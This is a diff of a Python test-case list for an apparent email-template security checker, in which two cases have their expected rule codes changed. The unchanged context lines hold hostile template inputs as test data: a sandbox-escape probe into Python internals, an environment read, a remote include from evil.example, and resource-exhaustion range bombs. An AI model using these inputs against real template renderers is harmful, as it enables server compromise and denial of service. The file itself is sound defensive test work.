@@ -194,7 +194,7 @@ CASES = [
     ),
     Case("people-in-clear", add("data/guests.csv", "email\nzoe.quemeneur@orange.fr\n"), "SEC-01", "data/guests.csv"),
     Case("mobiles-in-clear", add("data/guests.txt", "Zoé 06 98 76 54 32\n"), "SEC-01", "data/guests.txt"),
-    Case("address-in-a-link", href("https://www.atelier-lumen.example/?e={{ contact.address }}"), "SEC-04"),
+    Case("address-in-a-link", href("https://www.atelier-lumen.example/?e={{ contact.address }}"), "TPL-LINK-47"),
     # templates that reach out
     Case("environment", hello("{{ environ['HOME'] }}"), "TPL-NAME-40"),
     Case("sandbox-escape", hello("{{ ''.__class__.__mro__ }}"), "TPL-RENDER-45"),
@@ -205,7 +205,7 @@ CASES = [
     Case("remote-include", hello('[% include "https://evil.example/a.mjml" %]'), "TPL-INCLUDE-04"),
     Case("include-of-itself", hello('[% include "product-news.fr.mjml" %]'), "TPL-INCLUDE-06"),
     Case("range-bomb", hello("{% for i in range(100000000) %}x{% endfor %}"), "TPL-RENDER"),
-    Case("nested-range-bomb", hello(bomb(4)), "TPL-RENDER-46"),
+    Case("nested-range-bomb", hello(bomb(4)), "TPL-RENDER"),
     Case("text-bomb", hello("{{ 'x' * 100000000 }}"), "TPL-RENDER"),
     Case("elements-without-end", raw(('<div title="' + "x" * 30 + '">') * 2_600), "MSG-SIZE-13", stops=False),
     Case("bidi-in-a-template", hello("Bonjour \u202e{{ contact.first_name }}"), "TPL-TEXT-09"),
